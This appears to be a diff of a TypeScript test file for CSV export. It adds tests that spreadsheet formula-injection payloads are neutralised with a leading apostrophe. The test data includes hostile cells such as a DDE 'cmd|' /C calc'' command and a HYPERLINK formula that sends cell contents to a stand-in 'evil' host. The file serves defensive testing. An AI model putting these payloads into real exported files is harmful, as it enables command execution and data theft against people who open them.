@@ -1,13 +1,9 @@
 import fc from 'fast-check';
-import type {Table as MarkdownTable} from 'mdast';
-import {toString} from 'mdast-util-to-string';
-import remarkGfm from 'remark-gfm';
-import remarkParse from 'remark-parse';
-import {unified} from 'unified';
-import {toMarkdown} from '../../src/views/markdownTable.js';
-import {toCsv, exportJson} from '../../src/client/table/take.js';
+import {toCsv, exportJson, type Units} from '../../src/client/table/take.js';
 import {readCsv} from '../../src/dataset/csv.js';
 import {plainTexts} from '../properties/arbitraryText.js';
+import {findValueType, valueTypes} from '../../src/values/index.js';
+import type {ValueType} from '../../src/values/valueType.js';
 import {check} from '../properties/check.js';
 
 type Rows = Parameters<typeof toCsv>[0];
@@ -54,72 +50,14 @@ const tables = fc.integer({min: 1, max: 4}).chain((width) =>
   }),
 );
 
-function parseMarkdown(text: string) {
-  return unified().use(remarkParse).use(remarkGfm).parse(text);
-}
-
-function cellsOf(text: string): Rows {
-  const [table] = parseMarkdown(text).children as readonly MarkdownTable[];
-  return (table?.children ?? []).map(({children}) =>
-    children.map((cell) => toString(cell)),
-  );
-}
-
-describe('toMarkdown(rows)', () => {
-  it('is a table', () => {
-    expect(toMarkdown(rows)).toBe(`|  | Start-up | Kernel |
-| --- | --- | --- |
-| VM | 17 s to 97 s | yes |
-| Container | \\~ 568 ms | no |`);
-  });
-
-  it('is one table that says the same, whatever the texts hold', () => {
-    check(
-      fc.property(tables, (given) => {
-        const text = toMarkdown(given);
-
-        expect(parseMarkdown(text).children).toMatchObject([{type: 'table'}]);
-        expect(cellsOf(text)).toEqual(given);
-      }),
-    );
-  });
-
-  it.each([
-    '*a* _b_ **c** ~~d~~',
-    '`a`',
-    '[a](b)',
-    '![a](b)',
-    '<b>a</b>',
-    '<!-- a -->',
-    '&lt;',
-    '[^1]',
-    '\\*a\\*',
-    '`a | b`',
-  ])('takes %j for plain text', (text) => {
-    const [table] = parseMarkdown(toMarkdown([['x'], [text]]))
-      .children as readonly MarkdownTable[];
-
-    expect(table?.children[1]?.children[0]?.children).toMatchObject([
-      {type: 'text', value: text},
-    ]);
-  });
-
-  it.each([
-    'https://example.com/a_b',
-    'See www.example.com/~a*b.',
-    'first_last@example.com',
-    '<https://example.com/a>',
-  ])('writes the address in %j as it is', (text) => {
-    expect(cellsOf(toMarkdown([['x'], [text]]))).toEqual([['x'], [text]]);
-  });
-});
-
 describe('toCsv(rows)', () => {
   function cellsIn(text: string): Rows | undefined {
     const report = (code: string) => {
       throw new Error(code);
     };
-    return readCsv({path: 'x.csv', text}, Infinity, report)?.rows.map((row) =>
+    // The reader of files takes the mark away, as a spreadsheet does.
+    const file = {path: 'x.csv', text: text.replace(/^\ufeff/, '')};
+    return readCsv(file, Infinity, report)?.rows.map((row) =>
       row.map(({text: cell}) => cell),
     );
   }
@@ -127,7 +65,7 @@ describe('toCsv(rows)', () => {
   it('is rows of cells, quoted where they must be', () => {
     expect(toCsv([...rows, ['a "b", c', '1\n2', ' x ']])).toBe(
       [
-        ',Start-up,Kernel',
+        '\ufeff,Start-up,Kernel',
         'VM,17 s to 97 s,yes',
         'Container,~ 568 ms,no',
         '"a ""b"", c","1\n2", x ',
@@ -140,30 +78,154 @@ describe('toCsv(rows)', () => {
       fc.property(tables, (given) => {
         // Rows without any text are passed over.
         const kept = given.filter((row) => row.some((cell) => cell !== ''));
+        const withoutMark = (row: readonly string[]) =>
+          row.map((cell) => cell.replace(/^'(?=\s*[=@+\-＝＋－＠])/u, ''));
 
-        expect(
-          cellsIn(toCsv(given))?.map((row) =>
-            row.map((cell) => cell.replace(/^'(?=[=@+-])/, '')),
-          ),
-        ).toEqual(
-          kept.map((row) =>
-            row.map((cell) => cell.replace(/^'(?=[=@+-])/, '')),
-          ),
+        expect(cellsIn(toCsv(given))?.map(withoutMark)).toEqual(
+          kept.map(withoutMark),
         );
       }),
     );
   });
 
-  it.each(['=1+1', '@SUM(A1)', '+cmd', '-cmd', '=HYPERLINK("x")'])(
-    'lets no spreadsheet run %s',
+  it('starts with a byte order mark, so that spreadsheets read € ≤ – µ', () => {
+    const bytes = new TextEncoder().encode(toCsv([['€ ≤ – µ']]));
+
+    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+    expect(new TextDecoder().decode(bytes)).toBe('€ ≤ – µ');
+  });
+});
+
+describe('CSV formula injection', () => {
+  const number = findValueType('number');
+  const column = {id: 'x', name: 'X', type: 'number'};
+
+  /** The cell of a file with one column, as a spreadsheet reads it. */
+  function cellOf(text: string, units: Units = []): string {
+    const [, cell = ''] = toCsv([['x'], [text]], units).split('\r\n');
+    return cell.startsWith('"')
+      ? cell.slice(1, -1).replaceAll('""', '"')
+      : cell;
+  }
+
+  /** Whether a value type takes a text for one figure, neither range nor bound. */
+  function isFigure(type: ValueType | undefined, text: string): boolean {
+    const reading = type?.read(text, column);
+    return (
+      reading !== undefined &&
+      'value' in reading &&
+      reading.value.low === reading.value.high
+    );
+  }
+
+  it.each([
+    '=1+1',
+    '@SUM(A1)',
+    '+cmd',
+    '-cmd',
+    '=HYPERLINK("x")',
+    "-2+3+cmd|' /C calc'!A0",
+    '+1+1',
+    '-1+HYPERLINK("https://evil/?"&A1,"x")',
+    '-.5+cmd|x!A0',
+    '- 1+1',
+    '- 3',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(A1)',
+    '  =1+1',
+    '\u00a0=1+1',
+    '\n=1+1',
+    '\t1',
+    '\r1',
+    '-5 km',
+    '-5 to -3',
+    '-5–-3',
+    '-5-3',
+    '-5%/A1',
+    '+5 %',
+  ])('puts an apostrophe before %j, and changes nothing else', (text) => {
+    expect(cellOf(text)).toBe(`'${text}`);
+  });
+
+  it.each(['-5', '+5', '-.5', '-1.5e-3', '1-2', 'a=b', '(=1)', '', ' ', '−5'])(
+    'leaves %j as it is',
     (text) => {
-      expect(cellsIn(toCsv([['x'], [text]]))).toEqual([['x'], [`'${text}`]]);
+      expect(cellOf(text)).toBe(text);
     },
   );
 
-  it.each(['-5', '+5 %', '- 3', '-.5'])('leaves the figure %s', (text) => {
-    expect(cellsIn(toCsv([['x'], [text]]))).toEqual([['x'], [text]]);
+  it('leaves a figure with the unit of its column, and no other', () => {
+    const units = [new Set(['%', '‰'])];
+
+    expect(cellOf('+5 %', units)).toBe('+5 %');
+    expect(cellOf('-5%', units)).toBe('-5%');
+    expect(cellOf('-5 km', units)).toBe("'-5 km");
+    expect(cellOf('-5', units)).toBe("'-5");
   });
+
+  it('holds for names of criteria and subjects too', () => {
+    expect(
+      toCsv([
+        ['', '=1+1'],
+        ['-1+1', 'x'],
+      ]),
+    ).toBe("\ufeff,'=1+1\r\n'-1+1,x");
+  });
+
+  it('lets a text that starts with a sign be bare where it is a number', () => {
+    const hostile = fc
+      .array(
+        fc.constantFrom(
+          '+',
+          '-',
+          '1',
+          '23',
+          '.',
+          'e',
+          ' ',
+          '%',
+          '(',
+          ')',
+          'A1',
+          '|',
+          '!',
+        ),
+        {minLength: 1, maxLength: 6},
+      )
+      .map((parts) => parts.join(''));
+    check(
+      fc.property(fc.constantFrom('+', '-'), hostile, (sign, rest) => {
+        const text = sign + rest;
+
+        expect(cellOf(text)).toBe(isFigure(number, text) ? text : `'${text}`);
+      }),
+      2000,
+    );
+  });
+
+  it.each(
+    valueTypes.flatMap((type) => {
+      const criterion = {...column, currency: 'EUR'};
+      return Object.keys(type.units?.(criterion) ?? {}).map((unit) => ({
+        type,
+        unit,
+      }));
+    }),
+  )(
+    'leaves signed figures in "$unit" of the type $type.name',
+    ({type, unit}) => {
+      const criterion = {...column, currency: 'EUR'};
+      const units = [new Set(Object.keys(type.units?.(criterion) ?? {}))];
+      const figures = ['+5', '-5', '+.5', '-1.25e3']
+        .map((figure) => (unit === '' ? figure : `${figure} ${unit}`))
+        .filter((text) => 'value' in type.read(text, criterion));
+
+      expect(figures.length).toBeGreaterThan(0);
+      expect(figures.map((text) => cellOf(text, units))).toEqual(figures);
+    },
+  );
 });
 
 describe('toJson(rows)', () => {
